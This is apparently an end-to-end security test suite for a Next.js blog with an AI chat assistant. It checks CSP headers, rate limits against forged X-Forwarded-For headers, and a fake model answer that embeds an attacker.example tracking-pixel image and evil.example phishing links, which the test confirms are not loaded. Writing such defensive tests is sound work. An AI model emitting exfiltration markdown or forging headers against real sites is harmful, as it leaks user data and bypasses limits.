// Attacks on the site, against `next start` (the behaviour depends on what Next.js does with
// X-Forwarded-For, and on the headers next.config.mjs adds) and in Chromium. Servers with
// other settings are started from the same build, on free ports, and stopped after.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
import type { Browser, Page } from "playwright-core";
import { launchBrowser, openPage } from "./browser";
import { controlFake } from "./control";
import { ask } from "./chat-page";
import { startGatewayProcess } from "../test/gateway-process";
import { startSecondSite } from "./second-site";
import { runCommand } from "./server-process";

const baseUrl = inject("baseUrl");
const root = path.resolve(import.meta.dirname, "..");
const POST_PATH = "/blog/hello-world";
const PAGES = ["/", POST_PATH, "/resume", "/projects", "/feed.xml", "/robots.txt", "/no-such-page"];

/** Asks one question as `useChat` would, with `headers`; the status, and whether the stream finished. */
async function askOnce(url: string, question: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${url}/api/chat`, {
    method: "POST",
    headers: { "content-type": "application/json", ...headers },
    body: JSON.stringify({ id: "c", trigger: "submit-message", messages: [{ id: `m${Math.random()}`, role: "user", parts: [{ type: "text", text: question }] }] }),
  });
  const body = await response.text();
  return { status: response.status, finished: body.includes('"type":"finish"'), headers: response.headers, body };
}

describe("security headers", () => {
  it.each(PAGES)("attack: no CSP, frame-ancestors or Referrer-Policy on %s: every header is now sent", async (page) => {
    const { headers } = await fetch(`${baseUrl}${page}`);
    const csp = headers.get("content-security-policy") ?? "";
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).not.toContain("unsafe-eval");
    expect(headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    expect(headers.get("permissions-policy")).toMatch(/camera=\(\).*microphone=\(\)/);
  });

  it("attack: POST /api/chat told a visitor through Server-Timing whether someone else asked the same question: production sends none, yet keeps the CSP", async () => {
    const answer = await askOnce(baseUrl, "What is crema exporter?");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("server-timing")).toBeNull();
    expect(answer.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
  });
});

describe("in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => void (browser = await launchBrowser()));
  afterAll(async () => void (await browser?.close()));
  beforeEach(async () => void (await controlFake("llm", "reset")));

  /** Collects CSP violations two ways: the console's "Refused to …" lines and the DOM's `securitypolicyviolation` events. */
  async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
    const seen: string[] = [];
    page.on("console", (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) seen.push(message.text());
    });
    await page.addInitScript(() => {
      const list: string[] = ((window as unknown as { __csp: string[] }).__csp = []);
      document.addEventListener("securitypolicyviolation", (event) => list.push(`${event.violatedDirective} ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}:${event.columnNumber} on ${location.pathname}`));
    });
    return async () => [...seen, ...(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp))];
  }

  async function askInPage(page: Page, question: string) {
    await ask(page, question);
    await page.locator('[data-role="assistant"] [data-chat-sources]').last().waitFor({ state: "attached", timeout: 20_000 });
  }

  it("the pages and a chat answer satisfy the CSP: no violation in the console across /, a post, /resume and an answer", async () => {
    const { page, errors } = await openPage(browser);
    const violations = await watchCsp(page);
    const all: string[] = [];
    for (const url of [POST_PATH, "/resume", "/"]) {
      await page.goto(`${baseUrl}${url}`, { waitUntil: "networkidle" });
      all.push(...(await violations()));
    }
    await askInPage(page, "What is crema exporter?");
    all.push(...(await violations()));
    expect(all).toEqual([]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("attack: an answer model emitting an off-site image and a forged [1] link: no request to the image's host, no off-site link in the chat", async () => {
    const forged = 'Here you go ![pixel](https://attacker.example/pixel.png?leak=1) and see [[1]](https://evil.example/phish "cite:1"), [home](https://evil.example/), <https://evil.example/auto> and the real source [1].';
    await controlFake("llm", "answerNext", forged);
    const { page } = await openPage(browser);
    const requested: string[] = [];
    page.on("request", (request) => void requested.push(request.url()));
    await page.goto(baseUrl, { waitUntil: "networkidle" });
    await askInPage(page, "What is crema exporter?");
    const answer = page.locator('[data-role="assistant"]').last();
    await expect.poll(() => answer.locator(".prose").innerText()).toContain("the real source");
    // The markdown renderer loads on demand; until it has, the answer is its escaped plain text.
    await expect.poll(() => answer.locator("[data-markdown-pending]").count()).toBe(0);
    const hrefs = await answer.locator("a").evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).href));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(new URL(href).origin).toBe(baseUrl);
    expect(await answer.locator("img").count()).toBe(0);
    const citations = await answer.locator(".prose [data-citation]").evaluateAll((links) => links.map((a) => a.getAttribute("href")));
    expect(citations).toHaveLength(1);
    expect(citations[0]).toMatch(/^\/(blog|projects|resume)/);
    expect(requested.filter((url) => /attacker\.example|evil\.example/.test(url))).toEqual([]);
    await page.context().close();
  });
});

describe("client identity against next start", () => {
  it("attack: with plain next start, rotating X-Forwarded-For no longer lifts the per-client limit (all visitors share it, said once at start)", async () => {
    const site = await startSecondSite();
    try {
      const statuses = [];
      for (let i = 0; i < 22; i++) statuses.push((await askOnce(site.url, "hi", { "x-forwarded-for": `10.${i}.0.1` })).status);
      expect(statuses.slice(0, 20).every((s) => s === 200)).toBe(true);
      expect(statuses.slice(20)).toEqual([429, 429]);
      expect(site.output().match(/counts all visitors together/g)).toHaveLength(1);
    } finally {
      site.stop();
    }
  });

  it("attack: behind one trusted proxy, a rotated or forged client-written X-Forwarded-For neither lifts the limit nor locks another visitor out", async () => {
    const site = await startSecondSite({ TRUSTED_PROXY_COUNT: "1" });
    try {
      // The test plays the proxy: it appends the attacker's real address (203.0.113.66) to whatever the attacker wrote.
      const attacker = [];
      for (let i = 0; i < 21; i++) attacker.push((await askOnce(site.url, "hi", { "x-forwarded-for": i % 2 ? `10.${i}.0.1, 203.0.113.66` : "198.51.100.20, 203.0.113.66" })).status);
      expect(attacker.slice(0, 20).every((s) => s === 200)).toBe(true);
      expect(attacker[20]).toBe(429);
      expect((await askOnce(site.url, "hi", { "x-forwarded-for": "198.51.100.20" })).status).toBe(200);
      // A header-less visitor: Next.js fills in the peer address (127.0.0.1), a client of its own.
      expect((await askOnce(site.url, "hi")).status).toBe(200);
    } finally {
      site.stop();
    }
  });

  it("attack: 100 distinct questions from 100 addresses can no longer drain the gateway's bucket: all answered, at most 30 + 6 embeddings, not one 429", async () => {
    await controlFake("ollama", "reset"); // earlier files may have left it down or slow
    await ensureBakedIndex();
    // The built gateway as a process in front of the suite's fake Ollama, with its default bucket (burst 30, 6 a minute).
    const gateway = await startGatewayProcess({ ollamaUrl: inject("serverEnv").EMBED_URL!, token: "e2e-visitor-token-5d1c0b7e9a2f4c61" });
    const site = await startSecondSite({ TRUSTED_PROXY_COUNT: "1", EMBED_URL: gateway.url, EMBED_SECRET: gateway.token });
    try {
      const answers = [];
      for (let i = 0; i < 100; i++) answers.push(await askOnce(site.url, `Question ${i}: what did you write about topic number ${i}?`, { "x-forwarded-for": `198.51.100.${i + 1}` }));
      expect(answers.filter((a) => a.status !== 200 || !a.finished)).toEqual([]);
      const embeds = gateway.output().split("\n").filter((line) => / POST \/api\/embed /.test(line));
      expect(embeds.length, `gateway log:\n${gateway.output()}\nsite log:\n${site.output().slice(-2_000)}`).toBeGreaterThan(0);
      expect(embeds.length).toBeLessThanOrEqual(30 + 6);
      console.log(`100 questions from 100 addresses: ${answers.filter((a) => a.finished).length} answered, ${embeds.length} query embeddings reached the gateway`);
      expect(embeds.filter((line) => / 429 /.test(line))).toEqual([]);
      expect(site.output()).toMatch(/site-wide query-embedding budget spent/);
      expect(site.output()).not.toMatch(/breaker open/);
    } finally {
      site.stop();
      await gateway.stop();
    }
  }, 120_000);
});

/** Bakes the suite's index when `E2E_SKIP_BUILD=1` skipped the build that would have (without vectors, no query is ever embedded). */
async function ensureBakedIndex() {
  const settings = inject("serverEnv");
  if (fs.existsSync(path.join(settings.SEARCH_INDEX_DIR!, "index.json"))) return;
  const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), "e2e-cache-"));
  try {
    const env = { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? os.tmpdir(), NODE_ENV: "production" as const, EMBED_URL: settings.EMBED_URL, SEARCH_INDEX_DIR: settings.SEARCH_INDEX_DIR, EMBED_CACHE_DIR: cacheDir };
    await runCommand(process.execPath, [path.join(root, "node_modules/tsx/dist/cli.mjs"), "scripts/index.ts"], { cwd: root, env, label: "npm run index" });
  } finally {
    fs.rmSync(cacheDir, { recursive: true, force: true });
  }
}
